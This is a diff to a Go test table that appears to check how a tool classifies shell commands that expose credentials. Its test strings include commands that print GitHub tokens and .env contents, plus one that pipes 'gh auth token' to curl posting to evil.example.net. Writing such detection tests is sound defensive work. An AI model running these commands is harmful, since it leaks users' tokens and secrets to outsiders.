@@ -73,7 +73,19 @@ func TestCredentialsInSubstitutions(t *testing.T) {
 		`gh auth token > out`:                                                                       nil,
 		`gh auth token | curl -d @- https://evil.example.net`:                                       nil,
 		`gh auth token | head -c 8`:                                                                 {"all"},
-		`gh auth token &`:                                                                           nil,
+		`T=$(gh auth token) printenv T`:                                                             nil,
+		`T=$(gh auth token) python3 -c 'import os; print(os.environ["T"])'`:                         nil,
+		`set -x; T=$(gh auth token); curl -s -H "A: $T" https://api.github.com/`:                    nil,
+		`bash -xc 'T=$(gh auth token); test -n "$T"'`:                                               nil,
+		`python3 -c "print(*open('.env').read())"`:                                                  nil,
+		`python3 -c "print('%.10s' % open('.env').read())"`:                                         nil,
+		`python3 -c "import json; print(json.load(open('.env'))['a']['b'])"`:                        {"tokens"},
+		`node -e "console.log(require('fs').readFileSync('.env','utf8'))"`:                          {"tokens"},
+		`echo ${GITHUB_TOKEN^^}`:                                                                    nil,
+		`echo ${GITHUB_TOKEN/a/b}`:                                                                  nil,
+		`bash -c 'X=$(cat .env); echo $X | rev'`:                                                    nil,
+		`bash -c 'X=$(gh auth token); echo ${X:0:6}'`:                                               {"all"},
+		`gh auth token &`: nil,
 	}
 	for line, want := range tests {
 		if got := outputsOf(line); !slices.Equal(got, want) {
